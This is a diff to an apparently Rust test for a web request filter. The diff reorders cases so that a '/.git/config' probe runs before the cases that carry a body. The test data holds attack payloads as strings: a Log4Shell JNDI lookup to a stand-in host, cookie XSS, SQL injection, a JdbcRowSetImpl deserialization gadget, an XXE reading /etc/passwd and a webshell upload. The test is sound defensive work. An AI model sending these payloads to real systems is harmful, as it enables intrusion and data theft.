@@ -67,11 +67,13 @@ async fn attacks_everywhere_are_blocked_before_the_origin() {
         ("header", "GET", "/", vec![("user-agent", "${jndi:ldap://evil.example/a}")], None),
         ("cookie", "GET", "/", vec![("cookie", "lang=<script>alert(document.cookie)</script>")], None),
         ("scanner", "GET", "/", vec![("user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")], None),
+        ("sensitive file", "GET", "/.git/config", vec![], None),
+        // Bodies last: their header reaches the origin (counted there a moment later), which
+        // must not land in a bodiless case's check.
         ("urlencoded", "POST", "/login", vec![("content-type", "application/x-www-form-urlencoded")], Some(b"user=admin&pass=x%27%20or%20%271%27%3D%271".to_vec())),
         ("json", "POST", "/api/x", vec![("content-type", "application/json")], Some(br#"{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://x.example/a","autoCommit":true}"#.to_vec())),
         ("xml", "POST", "/api/xml", vec![("content-type", "application/xml")], Some(br#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#.to_vec())),
         ("multipart webshell", "POST", "/upload", vec![("content-type", "multipart/form-data; boundary=XyZ")], Some(multipart)),
-        ("sensitive file", "GET", "/.git/config", vec![], None),
     ];
     for (name, method, path, headers, body) in cases {
         let hits = o.hits();
